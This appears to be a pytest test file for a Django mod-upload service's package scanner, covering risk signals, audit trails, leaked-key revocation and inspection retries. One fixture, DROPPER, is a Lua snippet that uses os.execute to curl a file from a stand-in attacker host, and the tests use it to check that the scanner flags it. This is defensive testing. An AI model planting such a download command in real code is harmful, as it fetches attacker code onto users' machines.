"""What a verdict keeps of a package: signals, facts of programs, scanners, risk; and what no inspection answers."""

import logging
from typing import Any

import pytest
from django.core import mail
from django.utils import timezone

from accounts import keys, outbox
from accounts.audit import Action
from accounts.errors import RefusedError
from accounts.models import AuditEntry, OutboxRow, User
from moderation import queue
from tests import factories
from tests.packages import pe
from tests.uploads.sending import MOD, send
from uploads import checking, services, thread, verdicts
from uploads.checks import RULES_VERSION
from uploads.isolation.errors import IsolationError, IsolationUnavailableError
from uploads.models import CheckResult, PackageFile, QueueReason, Revision, Signal, Submission
from uploads.states import State

pytestmark = pytest.mark.django_db
LIBRARY = "Binaries/Win64/version.dll"
DROPPER = b"local url = 'https://evil.example/x'\nos.execute('curl -s -o x https://evil.example/x')\n"


@pytest.fixture
def ada() -> User:
    return factories.make_user("modder")


def checked(author: User, files: dict[str, bytes], version: str = "1.0.0", **more: object) -> Submission:
    """A submission of these files after a worker has checked it."""
    members = {"Content/init.lua": b"return 1\n"} | files
    data = factories.package(factories.manifest(MOD, version, **more), members)
    submission = send(author, data=data, side=factories.sidecar(MOD, version, **more), version=version)
    outbox.drain()
    return Submission.objects.select_related("current").get(pk=submission.pk)


def revision_of(submission: Submission) -> Revision:
    assert submission.current is not None
    return submission.current


def signals(submission: Submission) -> dict[str, Signal]:
    return {row.code: row for row in revision_of(submission).signals.all()}


def test_signals_programs_scanners_and_risk_are_kept(ada: User) -> None:
    submission = checked(ada, {LIBRARY: pe(), "Content/run.lua": DROPPER})
    revision = revision_of(submission)
    found = signals(submission)
    assert {"dll_like_the_games", "new_executable", "lua_os_execute", "url_new", "yara_match"} <= set(found)
    run = found["lua_os_execute"]
    assert (run.path, run.line, run.weight, run.first_seen) == ("Content/run.lua", 2, 3, "1.0.0")
    assert [row.position for row in revision.signals.all()] == list(range(revision.signals.count()))
    assert revision.signals.all()[0].blocking
    assert PackageFile.objects.get(revision=revision, path=LIBRARY).facts
    assert PackageFile.objects.get(revision=revision, path="Content/run.lua").facts == {}
    assert revision.scanners
    assert (revision.risk, revision.rules_version) == (5, RULES_VERSION)
    assert submission.state == State.PENDING_REVIEW


def test_a_plain_mod_has_no_signal_and_no_risk(ada: User) -> None:
    submission = checked(ada, {})
    assert signals(submission) == {}
    assert revision_of(submission).risk == 0


def test_a_warning_is_a_signal_too(ada: User) -> None:
    factories.make_build("0.8.9", "deprecated")
    submission = checked(ada, {}, targetGameBuild="0.8.9")
    (found,) = signals(submission).values()
    assert (found.code, found.rule, found.weight) == ("build_deprecated", "target_game_build", 1)
    assert revision_of(submission).risk == 1


def test_what_blocks_stands_in_the_audit_trail(ada: User) -> None:
    submission = checked(ada, {"Content/run.lua": DROPPER})
    entry = AuditEntry.objects.get(action=Action.VALIDATION_FINISHED.value)
    assert isinstance(entry.after, dict)
    blocking = revision_of(submission).signals.filter(blocking=True)
    assert entry.after["blocking"] == [row.fingerprint for row in blocking]
    assert blocking.exists()


def test_a_finding_is_known_again_in_the_next_version(ada: User) -> None:
    checked(ada, {"Content/run.lua": DROPPER})
    second = checked(ada, {"Content/moved.lua": b"-- a line more\n" + DROPPER}, "1.1.0")
    assert signals(second)["lua_os_execute"].first_seen == "1.0.0"


def test_a_second_check_of_the_same_revision_leaves_nothing_of_the_first(ada: User) -> None:
    submission = checked(ada, {LIBRARY: pe()})
    revision = revision_of(submission)
    Submission.objects.filter(pk=submission.pk).update(state="uploaded")
    checking.check(submission.submission_id, 1)
    assert CheckResult.objects.filter(revision=revision).count() == 13
    assert PackageFile.objects.filter(revision=revision).count() == 3
    assert Submission.objects.get().state == State.PENDING_REVIEW


def test_a_key_of_ours_in_a_package_is_revoked_with_the_verdict(
    ada: User, caplog: pytest.LogCaptureFixture
) -> None:
    owner = factories.make_user("modder")
    token = keys.issue_key(owner, "CI", ["uploads:read"]).token
    outbox.drain()
    mail.outbox.clear()
    with caplog.at_level(logging.DEBUG):
        submission = checked(ada, {"Content/ci.lua": f'local key = "{token}"\n'.encode()})
    with pytest.raises(RefusedError):
        keys.authenticate_key(token)
    entry = AuditEntry.objects.get(action=Action.ACCOUNT_KEY_REVOKED.value)
    assert entry.actor.is_system
    assert submission.submission_id in entry.reason
    assert [sent.to for sent in mail.outbox] == [[owner.email]]
    secret = token.rpartition("_")[2]
    told = signals(submission)["secret_found"]
    kept = [
        str(row) for model in (Signal, CheckResult, AuditEntry, OutboxRow) for row in model.objects.values()
    ]
    assert secret not in "".join(kept) + caplog.text + mail.outbox[0].body
    assert told.path == "Content/ci.lua"


@pytest.mark.parametrize("code", ["inspection_timeout", "inspection_memory"])
def test_what_asks_for_too_much_fails_at_once(ada: User, monkeypatch: pytest.MonkeyPatch, code: str) -> None:
    def broken(*_: object, **__: object) -> None:
        raise IsolationError(code, "it took too much")

    monkeypatch.setattr(checking, "prepare", broken)
    submission = send(ada)
    outbox.drain()
    submission.refresh_from_db()
    assert submission.state == State.VALIDATION_FAILED
    result = services.current(submission).results.get()
    assert (result.check_id, result.code, bool(result.hint)) == (verdicts.VALIDATION, code, True)
    assert OutboxRow.objects.get(kind="checks.run").done_at is not None
    assert not submission.reasons.exists()
    assert code in mail.outbox[0].body or result.message in mail.outbox[0].body


@pytest.mark.parametrize("code", ["inspection_crashed", "inspection_nonsense"])
def test_what_breaks_off_is_tried_three_times_and_then_put_before_a_human(
    ada: User, monkeypatch: pytest.MonkeyPatch, code: str
) -> None:
    tried: list[int] = []

    def broken(*_: object, **__: object) -> None:
        tried.append(1)
        raise IsolationError(code, "signal 11")

    monkeypatch.setattr(checking, "prepare", broken)
    submission = send(ada)
    for _ in range(5):
        OutboxRow.objects.update(due_at=timezone.now())
        outbox.drain(1)
    submission.refresh_from_db()
    assert (submission.state, len(tried)) == (State.VALIDATION_FAILED, 3)
    assert services.current(submission).results.get().code == "validation_crashed"
    (item,) = queue.page(factories.make_user("moderator")).items
    assert (item.submission.pk, item.submission.state) == (submission.pk, State.VALIDATION_FAILED)
    assert "stopped three times" in item.know


def test_a_package_that_broke_every_attempt_delays_no_other(
    ada: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    real, poison = checking.prepare, send(ada)

    def broken(opened: Any, size: int, **more: Any) -> Any:
        if size == services.current(poison).size_bytes:
            raise IsolationError("inspection_crashed", "signal 11")
        return real(opened, size, **more)

    monkeypatch.setattr(checking, "prepare", broken)
    other = factories.make_user("modder")
    side = factories.sidecar("bob.other", name="Another")
    good = send(other, data=factories.good_package("bob.other", name="Another"), side=side)
    outbox.drain(1)
    outbox.drain(1)
    assert Submission.objects.get(pk=good.pk).state == State.PENDING_REVIEW
    assert Submission.objects.get(pk=poison.pk).state == State.VALIDATING


def test_where_nothing_can_be_opened_safely_it_waits(ada: User, monkeypatch: pytest.MonkeyPatch) -> None:
    def away(*_: object, **__: object) -> None:
        raise IsolationUnavailableError("no bubblewrap")

    monkeypatch.setattr(checking, "prepare", away)
    submission = send(ada)
    outbox.drain(1)
    submission.refresh_from_db()
    row = OutboxRow.objects.get(kind="checks.run")
    assert (submission.state, row.attempts, row.done_at) == (State.UPLOADED, 0, None)
    assert row.due_at > timezone.now()


def given_up(author: User) -> Submission:
    """A submission whose attempts are used up."""
    submission = send(author)
    checking.give_up({"submission": submission.submission_id, "revision": 1}, "lost")
    submission.refresh_from_db()
    return submission


def open_reasons(submission: Submission) -> list[str]:
    return list(submission.reasons.filter(closed_at=None).values_list("kind", flat=True))


def test_the_humans_answer_closes_what_was_put_before_them(ada: User) -> None:
    submission = given_up(ada)
    assert open_reasons(submission) == [QueueReason.Kind.BY_HAND]
    thread.post_message(ada, submission, "Is something wrong?")
    assert open_reasons(submission) == [QueueReason.Kind.BY_HAND]
    thread.post_message(factories.make_user("moderator"), submission, "Please split it in two.")
    assert open_reasons(submission) == []
    assert submission.reasons.get().closed_by == "answered"


def test_replacing_or_withdrawing_closes_it_too(ada: User) -> None:
    submission = given_up(ada)
    services.replace(ada, submission, chunks=[factories.good_package(MOD)], content_type="application/zip")
    assert open_reasons(submission) == []
    Submission.objects.filter(pk=submission.pk).update(state="validation_failed")
    factories.make_reason(submission, "by_hand")
    submission.refresh_from_db()
    services.withdraw(ada, submission)
    assert open_reasons(submission) == []
